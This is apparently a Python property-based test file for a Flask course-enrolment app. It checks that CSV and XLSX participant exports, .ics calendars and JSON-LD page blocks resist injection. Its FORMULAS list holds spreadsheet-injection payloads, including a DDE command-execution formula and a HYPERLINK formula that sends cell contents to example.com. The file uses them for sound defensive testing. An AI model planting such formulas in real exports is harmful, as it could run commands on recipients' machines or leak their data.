"""Exports are valid and safe for any stored text: participants as CSV and XLSX (no cell a
spreadsheet would run as a formula), the .ics (parses back, no property smuggled in through a
line break), and the JSON-LD block of an offering's page (valid JSON that cannot close its
<script> element)."""

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from itertools import count

import openpyxl
from flask_babel import force_locale
from hypothesis import given
from hypothesis import strategies as st
from icalendar import Calendar
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from app.extensions import db
from app.models import Offering, Organisation, Role, User, utcnow
from app.services import enrolment
from app.services.catalogue import build_calendar
from app.services.enrolment import exports
from tests.factories import make_offering, make_organisation, make_user, set_sessions
from tests.property.strategies import (
    MARKUP,
    SPECIAL,
    big_integers,
    fit,
    unicode_text,
    with_markup,
)

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\x01=1+1",  # a control character a spreadsheet drops, and then the formula
    "\x0b-1",
)

# What a text column may hold. No NUL: PostgreSQL stores none (and the forms refuse it);
# every other character, control characters included, can arrive by import or an old row.
stored_text = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=120),
    st.sampled_from([text for text in SPECIAL if "\x00" not in text]),
    st.sampled_from(FORMULAS),
    st.builds(lambda formula, tail: formula + tail, st.sampled_from(FORMULAS), unicode_text),
    with_markup.map(lambda text: text.replace("\x00", "")),
    st.sampled_from(MARKUP),
    big_integers,
    st.integers(1_000, 40_000).map(lambda size: "=" + "x" * size),
)

CELL_MAX = 32_767  # Excel's limit: a longer cell makes Excel "repair" the whole file
_numbers = count(1)


def neutralised(text: str) -> bool:
    """A cell no spreadsheet evaluates: it starts with none of the formula prefixes."""
    return not text.startswith(exports.FORMULA_PREFIXES)


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


@given(rows=st.lists(st.lists(stored_text, min_size=2, max_size=2), max_size=6))
def test_any_text_in_a_table_is_a_csv_of_inert_cells_that_reads_back(rows):
    table = exports.Table(title="Participants", headers=["Name", "Email"], rows=rows)

    read = read_csv(exports.to_csv(table))

    assert len(read) == len(rows) + 1  # a line break inside a cell never splits its row
    for written, values in zip(read[1:], rows, strict=True):
        assert len(written) == len(values)
        for cell, value in zip(written, values, strict=True):
            assert neutralised(cell)
            # Only a leading apostrophe is added (and only to what would run); nothing lost.
            assert cell in (value, "'" + value)


@given(rows=st.lists(st.lists(stored_text, min_size=2, max_size=2), max_size=6))
def test_any_text_in_a_table_is_a_workbook_of_plain_text_cells(rows):
    """In a workbook a text cell is typed as text, never a formula (so "=..." is shown, not
    run), without the control characters XML cannot carry and within Excel's cell size."""
    table = exports.Table(title="Participants", headers=["Name", "Email"], rows=rows)

    sheet = read_xlsx(exports.to_xlsx(table))

    read = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2, max_col=2)]
    assert len(read) == len(rows)
    for written, values in zip(read, rows, strict=True):
        for cell, value in zip(written, values, strict=True):
            expected = ILLEGAL_CHARACTERS_RE.sub("", value)[:CELL_MAX]
            # XML reads every line break back as LF; a reader is none the worse for it.
            assert (cell or "") == re.sub(r"\r\n?", "\n", expected)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.value is not None:
                assert cell.data_type == "s", f"{cell.value!r} is stored as {cell.data_type}"


@given(people=st.lists(st.tuples(stored_text, stored_text), min_size=1, max_size=4))
def test_every_export_of_stored_names_and_emails_is_safe(app, session, people):
    """Through the service, from the database: participants, waiting list and attendance."""
    staff = make_user(
        session, role=Role.ORGANISATION_STAFF, organisation=make_organisation(session)
    )
    offering = make_offering(session, capacity=2, sessions=2)
    for name, email in people:
        # Unique by construction: the column is; the text before it is anything at all.
        unique = f"#{next(_numbers)}"
        stored = fit(User, name=name, email=email)
        person = make_user(
            session, name=stored["name"], email=stored["email"][: 254 - len(unique)] + unique
        )
        enrolment.enrol(session, offering_id=offering.id, user_id=person.id, now=utcnow())
    session.flush()
    with app.test_request_context("/es/"), force_locale("es"):
        for kind in exports.Kind:
            csv_file = exports.export(
                session, offering, kind=kind.value, fmt="csv", actor_id=staff.id, now=utcnow()
            )
            xlsx_file = exports.export(
                session, offering, kind=kind.value, fmt="xlsx", actor_id=staff.id, now=utcnow()
            )
            csv_cells = [cell for row in read_csv(csv_file.content) for cell in row]
            assert all(neutralised(cell) for cell in csv_cells), kind
            sheet = read_xlsx(xlsx_file.content)
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{cell.value!r} is a formula"
    session.rollback()


# Calendars

URL = "https://formacion.example.org/es/offerings/1"
EVENT_PROPERTIES = {
    "UID",
    "DTSTAMP",
    "DTSTART",
    "DTEND",
    "SUMMARY",
    "DESCRIPTION",
    "LOCATION",
    "URL",
    "STATUS",
    "SEQUENCE",
}


@given(
    title=stored_text,
    summary=stored_text,
    venue=stored_text,
    address=stored_text,
    # Sessions are kept to the minute.
    start=st.datetimes(min_value=datetime(2001, 1, 1), max_value=datetime(2099, 12, 1)).map(  # noqa: DTZ001
        lambda value: value.replace(second=0, microsecond=0, tzinfo=UTC)
    ),
)
def test_any_stored_text_makes_a_calendar_that_parses_back(
    session, title, summary, venue, address, start
):
    offering = make_offering(
        session,
        **fit(
            Offering,
            title_es=title or "x",
            title_en=title,
            summary_es=summary or "x",
            venue=venue,
            address=address,
        ),
    )
    set_sessions(offering, [(start, start + timedelta(hours=2))])
    session.flush()
    for lang in ("es", "en"):
        body = build_calendar([(offering, URL)], lang, name=title)

        # RFC 5545: CRLF line ends, lines folded at 75 octets, no bare LF or CR.
        lines = body.split(b"\r\n")
        assert lines[-1] == b""
        assert all(b"\n" not in line and b"\r" not in line for line in lines)
        assert all(len(line) <= 75 for line in lines)
        calendar = Calendar.from_ical(body)
        assert not calendar.errors
        [event] = calendar.walk("VEVENT")
        # A line break in a title never starts a property of its own.
        assert set(event) == EVENT_PROPERTIES
        assert not event.errors
        assert "\n" not in str(event["summary"]) and "\r" not in str(event["summary"])
        assert str(event["url"]) == URL
        assert str(event["description"]).endswith(URL)
        assert event.decoded("dtstart") == start
    session.rollback()


# JSON-LD on the offering's page

JSON_LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.DOTALL)


@given(
    title=stored_text,
    summary=stored_text,
    venue=stored_text,
    provider=stored_text,
    skills=stored_text,
)
def test_the_json_ld_of_any_stored_text_is_json_that_stays_in_its_script(
    app, client, title, summary, venue, provider, skills
):
    with app.app_context():
        name = fit(Organisation, name=provider)["name"][:190] + f" {next(_numbers)}"
        organisation = make_organisation(db.session, name=name)
        offering = make_offering(
            db.session,
            provider=organisation,
            **fit(
                Offering,
                title_es=title or "x",
                title_en=title,
                summary_es=summary or "x",
                summary_en=summary,
                venue=venue,
                skills=skills,
            ),
        )
        db.session.commit()
        offering_id, provider_name = offering.id, organisation.name
        titles = {offering.title_es, offering.title_en}
    for lang in ("es", "en"):
        page = client.get(f"/{lang}/offerings/{offering_id}")
        assert page.status_code == 200
        [block] = JSON_LD.findall(page.text)  # the block ends where its own </script> is
        assert "</" not in block and "<!--" not in block
        data = json.loads(block)
        assert data["name"] in titles
        organiser = data["provider"] if data["@type"] == "Course" else data["organizer"]
        assert organiser["name"] == provider_name
